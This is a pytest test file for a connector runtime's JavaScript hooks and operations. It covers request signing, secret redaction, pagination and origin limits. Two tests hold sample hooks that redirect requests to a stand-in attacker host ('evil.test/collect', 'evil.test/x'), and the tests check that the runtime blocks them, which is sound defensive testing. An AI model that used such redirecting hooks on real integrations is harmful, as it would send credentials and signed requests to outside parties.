"""Hooks around a client's requests, and JavaScript operations, through httpx.MockTransport."""

from __future__ import annotations

import hashlib
import hmac
from typing import Any

import httpx
import orjson
import pytest

from connectory.errors import InputError, ScriptError, UpstreamError
from connectory.http.redaction import REDACTED
from connectory.runtime import ConnectorClient
from connectory.spec import ConnectorSpec
from connectory.spec.code import CodeRefSpec

from .support import BASE_URL, QUIET_RESILIENCE, Recorder

SECRET = "hook-secret-value"


def make_spec(files: dict[str, str], **fields: Any) -> ConnectorSpec:
    data: dict[str, Any] = {
        "name": "Hooked",
        "base_url": BASE_URL,
        "resilience": dict(QUIET_RESILIENCE),
        "auth": {
            "auth_type": "api_key",
            "location": "header",
            "header_name": "X-Key",
            "credential_schema": {
                "api_key": {"type": "password", "sensitive": True},
                "signing_secret": {"type": "password", "sensitive": True},
            },
        },
        "operations": [
            {
                "name": "list_items",
                "path": "/items",
                "parameters": [{"name": "q", "location": "query"}],
                "record_selector": "items",
                "pagination": {"type": "cursor", "cursor_path": "next"},
            },
            {
                "name": "create_item",
                "method": "POST",
                "path": "/items",
                "parameters": [{"name": "name", "location": "body", "required": True}],
            },
        ],
        **fields,
    }
    return ConnectorSpec.model_validate(data).with_code_files(files)


def client_for(spec: ConnectorSpec, handler: Any) -> ConnectorClient:
    return ConnectorClient(
        spec,
        credentials={"api_key": "the-api-key", "signing_secret": SECRET},
        transport=httpx.MockTransport(handler),
    )


SIGN = (
    "export default function (ctx) {\n"
    "  const r = ctx.request;\n"
    "  const message = `${r.method}.${r.path}.${r.rawBody ?? ''}`;\n"
    "  r.headers['X-Signature'] = ctx.utils.hmacSha256(ctx.credentials.signing_secret, message);\n"
    "  r.headers['X-Trace'] = ctx.markPublic('trace-1234');\n"
    "  r.query.signed = ctx.markPublic('yes');\n"
    "  ctx.log('signing', r.method, r.path, ctx.parameters);\n"
    "}\n"
)
HOOKS = {"pre_request": [{"file": "hooks/sign.js", "credentials": ["signing_secret"]}]}


async def test_a_pre_request_hook_signs_every_request_before_auth() -> None:
    recorder = Recorder(lambda request: httpx.Response(201, json={"id": 1}))
    spec = make_spec({"hooks/sign.js": SIGN}, hooks=HOOKS)
    async with client_for(spec, recorder) as client:
        result = await client.call("create_item", {"name": "x"})
    sent = recorder.last
    body = b'{"name":"x"}'
    expected = hmac.new(SECRET.encode(), b"POST./v1/items." + body, hashlib.sha256).hexdigest()
    assert sent.headers["X-Signature"] == expected
    assert sent.headers["X-Key"] == "the-api-key"  # auth applied after the hook
    assert sent.url.params["signed"] == "yes"
    assert sent.content == body
    # What the caller sees: before and after the hook, secrets (and the signature) redacted.
    assert result.request_before_hooks is not None
    assert "X-Signature" not in result.request_before_hooks.headers
    assert result.request is not None
    assert result.request.headers["X-Signature"] == REDACTED
    assert result.request.headers["X-Trace"] == "trace-1234"  # marked public
    assert [(line.message, line.location) for line in result.logs] == [
        ('signing POST /v1/items {"name":"x"}', "hooks/sign.js:7:7")
    ]


async def test_hooks_run_for_every_page_and_post_hooks_before_extraction() -> None:
    pages = {
        None: {"envelope": {"items": [1, 2], "next": "c2"}},
        "c2": {"envelope": {"items": [3], "next": None}},
    }
    recorder = Recorder(
        lambda request: httpx.Response(200, json=pages[request.url.params.get("cursor")])
    )
    unwrap = "export default (ctx) => ({ body: ctx.response.body.envelope });\n"
    spec = make_spec(
        {"hooks/sign.js": SIGN, "hooks/unwrap.js": unwrap},
        hooks={**HOOKS, "post_response": ["hooks/unwrap.js"]},
    )
    async with client_for(spec, recorder) as client:
        records = [record async for record in client.iter_records("list_items")]
    assert records == [1, 2, 3]
    assert all("X-Signature" in request.headers for request in recorder.requests)
    assert len(recorder.requests) == 2


async def test_global_hooks_run_before_the_operations_own() -> None:
    files = {
        "hooks/first.js": "export default (ctx) => ({ headers: { 'X-Order': 'global' } });\n",
        "hooks/second.js": (
            "export default (ctx) =>\n"
            "  ({ headers: { 'X-Order': ctx.request.headers['X-Order'] + ',op' } });\n"
        ),
    }
    spec = make_spec(files, hooks={"pre_request": ["hooks/first.js"]})
    data = spec.model_dump(mode="json", by_alias=True, exclude_unset=True)
    data["operations"][1]["hooks"] = {"pre_request": ["hooks/second.js"]}
    spec = ConnectorSpec.model_validate(data).with_code_files(files)
    recorder = Recorder()
    async with client_for(spec, recorder) as client:
        await client.call("create_item", {"name": "x"})
    assert recorder.last.headers["X-Order"] == "global,op"


async def test_a_pre_request_hook_can_answer_without_calling_the_api() -> None:
    cached = "export default () => ({ response: { status: 200, body: { items: ['cached'] } } });\n"
    recorder = Recorder()
    spec = make_spec({"hooks/cache.js": cached}, hooks={"pre_request": ["hooks/cache.js"]})
    async with client_for(spec, recorder) as client:
        result = await client.call("list_items")
    assert result.body == {"items": ["cached"]}
    assert recorder.requests == []


async def test_a_post_response_hook_turns_an_error_object_into_an_error() -> None:
    hook = (
        "export default (ctx) => {\n"
        "  const b = ctx.response.body;\n"
        "  if (b.ok === false) return { status: 422, body: b.error };\n"
        "};\n"
    )
    recorder = Recorder(lambda r: httpx.Response(200, json={"ok": False, "error": {"msg": "bad"}}))
    spec = make_spec({"hooks/errors.js": hook}, hooks={"post_response": ["hooks/errors.js"]})
    async with client_for(spec, recorder) as client:
        with pytest.raises(UpstreamError) as caught:
            await client.call("create_item", {"name": "x"})
    assert caught.value.status_code == 422
    assert '"msg":"bad"' in caught.value.body


async def test_a_hook_cannot_send_the_request_to_another_origin() -> None:
    hook = "export default (ctx) => ({ url: 'https://evil.test/collect' });\n"
    recorder = Recorder()
    spec = make_spec({"hooks/away.js": hook}, hooks={"pre_request": ["hooks/away.js"]})
    async with client_for(spec, recorder) as client:
        with pytest.raises(ScriptError) as caught:
            await client.call("list_items")
    assert "https://evil.test" in str(caught.value)
    assert "javascript.allowed_origins" in str(caught.value)
    assert recorder.requests == []


async def test_a_hook_may_change_the_path_and_the_method() -> None:
    hook = "export default (ctx) => ({ path: '/v1/other', method: 'PUT', query: { q: null } });\n"
    recorder = Recorder()
    spec = make_spec({"hooks/move.js": hook}, hooks={"pre_request": ["hooks/move.js"]})
    async with client_for(spec, recorder) as client:
        await client.call("list_items", {"q": "dropped"})
    assert (recorder.last.method, recorder.last.url.path) == ("PUT", "/v1/other")
    assert "q" not in recorder.last.url.params


async def test_a_hook_error_names_its_file_and_line_and_keeps_secrets_out() -> None:
    hook = "export default (ctx) => {\n  throw new Error('no ' + ctx.credentials.signing_secret);\n"
    hook += "};\n"
    spec = make_spec(
        {"hooks/broken.js": hook},
        hooks={"pre_request": [{"file": "hooks/broken.js", "credentials": ["signing_secret"]}]},
    )
    async with client_for(spec, Recorder()) as client:
        with pytest.raises(ScriptError) as caught:
            await client.call("list_items")
    assert str(caught.value) == f"hooks/broken.js:2:9: Error: no {REDACTED}"
    assert SECRET not in " ".join(caught.value.stack)


METHOD = (
    "export default async function (ctx) {\n"
    "  const item = await ctx.apiClient.get(`/items/${ctx.parameters.id}`);\n"
    "  const owner = await ctx.apiClient.post('/owners/search', { email: item.email });\n"
    "  ctx.log('two calls');\n"
    "  return { id: item.id, owner: owner.name };\n"
    "}\n"
)


def api(request: httpx.Request) -> httpx.Response:
    if request.url.path == "/v1/items/7":
        return httpx.Response(200, json={"id": 7, "email": "a@example.test"})
    if request.url.path == "/v1/owners/search":
        email = orjson.loads(request.content)["email"]
        return httpx.Response(200, json={"name": f"owner of {email}"})
    return httpx.Response(404, json={"error": "not found"})


def method_spec(text: str = METHOD, **javascript: Any) -> ConnectorSpec:
    files = {"methods/item.js": text, "hooks/sign.js": SIGN}
    spec = make_spec(files, hooks=HOOKS, javascript=javascript)
    data = spec.model_dump(mode="json", by_alias=True, exclude_unset=True)
    data["operations"].append(
        {
            "name": "item_with_owner",
            "implementation": "javascript",
            "code": "methods/item.js",
            "parameters": [{"name": "id", "type": "integer", "required": True}],
            "response_schema": {"type": "object", "required": ["id", "owner"]},
        }
    )
    return ConnectorSpec.model_validate(data).with_code_files(files)


async def test_a_javascript_operation_makes_two_calls_through_the_runtime() -> None:
    recorder = Recorder(api)
    async with client_for(method_spec(), recorder) as client:
        result = await client.call("item_with_owner", {"id": "7"})
    assert result.body == {"id": 7, "owner": "owner of a@example.test"}
    assert result.schema_mismatches == []
    assert [r.url.path for r in recorder.requests] == ["/v1/items/7", "/v1/owners/search"]
    # Auth and the connector's global hook applied to both.
    assert all(r.headers["X-Key"] == "the-api-key" for r in recorder.requests)
    assert all("X-Signature" in r.headers for r in recorder.requests)
    assert [call.url for call in result.api_calls] == [
        f"{BASE_URL}/items/7?signed=yes",
        f"{BASE_URL}/owners/search?signed=yes",
    ]
    assert result.logs[-1].message == "two calls"


async def test_a_javascript_operation_checks_its_parameters_and_response_schema() -> None:
    async with client_for(method_spec(), Recorder(api)) as client:
        with pytest.raises(InputError):
            await client.call("item_with_owner", {})
        client.check_call("item_with_owner", {"id": 1})
    text = "export default () => ({ id: 'not a number' });\n"
    async with client_for(method_spec(text), Recorder(api)) as client:
        result = await client.call("item_with_owner", {"id": 1})
    assert result.schema_mismatches


async def test_an_api_error_inside_a_method_points_at_the_call() -> None:
    text = "export default async (ctx) => {\n  return await ctx.apiClient.get('/missing');\n};\n"
    async with client_for(method_spec(text), Recorder(api)) as client:
        with pytest.raises(ScriptError) as caught:
            await client.call("item_with_owner", {"id": 1})
    assert str(caught.value).startswith("methods/item.js:2:")
    assert "ApiError: the API answered 404" in str(caught.value)


async def test_the_api_client_reaches_only_the_connectors_origins() -> None:
    text = (
        "export default async (ctx) => {\n"
        "  await ctx.apiClient.request({ url: 'https://auth.example.com/token' });\n"
        "  try { await ctx.apiClient.request({ url: 'https://evil.test/x' }); }\n"
        "  catch (e) { return { id: 1, owner: e.message }; }\n"
        "};\n"
    )
    recorder = Recorder(lambda r: httpx.Response(200, json={"t": 1}))
    spec = method_spec(text, allowed_origins=["https://auth.example.com"])
    async with client_for(spec, recorder) as client:
        result = await client.call("item_with_owner", {"id": 1})
    assert "not the connector's origin" in result.body["owner"]
    assert [str(r.url.host) for r in recorder.requests] == ["auth.example.com"]


async def test_run_method_is_the_entry_point_for_other_callers() -> None:
    text = (
        "export function shape(ctx) {\n"
        "  return { got: ctx.input, params: ctx.parameters, op: ctx.operation };\n}\n"
    )
    spec = make_spec({"methods/shape.js": text})
    async with client_for(spec, Recorder()) as client:
        value = await client.run_method(
            CodeRefSpec(file="methods/shape.js", export="shape"),
            parameters={"p": 1},
            input={"record": {"name": "x"}},
        )
    assert value == {"got": {"record": {"name": "x"}}, "params": {"p": 1}, "op": None}


CLOCKED = (
    "export default function (ctx) {\n"
    "  const r = ctx.request;\n"
    "  r.headers['X-Now'] = String(Date.now());\n"
    "  r.headers['X-Date'] = new Date().toISOString();\n"
    "  r.headers['X-Utils'] = String(ctx.utils.now());\n"
    "  r.headers['X-Given'] = new Date(0).toISOString();\n"
    "  r.headers['X-Called'] = String(typeof Date() === 'string' && new Date() instanceof Date);\n"
    "}\n"
)


async def test_code_sees_a_virtual_clocks_time_and_the_real_time_otherwise() -> None:
    """Replay runs hooks at the recording's moment: Date and ctx.utils.now read the client's
    virtual clock; with the system clock they read the real time."""
    from datetime import UTC, datetime

    from connectory.resilience import FakeClock

    spec = make_spec(
        {"hooks/clock.js": CLOCKED}, hooks={"pre_request": [{"file": "hooks/clock.js"}]}
    )
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, json={"items": []})

    moment = 1_600_000_000.25
    virtual = ConnectorClient(
        spec,
        credentials={"api_key": "the-api-key", "signing_secret": SECRET},
        transport=httpx.MockTransport(handler),
        clock=FakeClock(wall_start=moment),
    )
    async with virtual:
        await virtual.call("list_items")
    headers = seen[-1].headers
    assert headers["x-now"] == headers["x-utils"] == str(int(moment * 1000))
    assert headers["x-date"] == datetime.fromtimestamp(moment, UTC).isoformat(
        timespec="milliseconds"
    ).replace("+00:00", "Z")
    assert headers["x-given"] == "1970-01-01T00:00:00.000Z"  # explicit dates are untouched
    assert headers["x-called"] == "true"

    async with client_for(spec, handler) as real:
        await real.call("list_items")
    assert abs(int(seen[-1].headers["x-now"]) / 1000 - datetime.now(UTC).timestamp()) < 3600
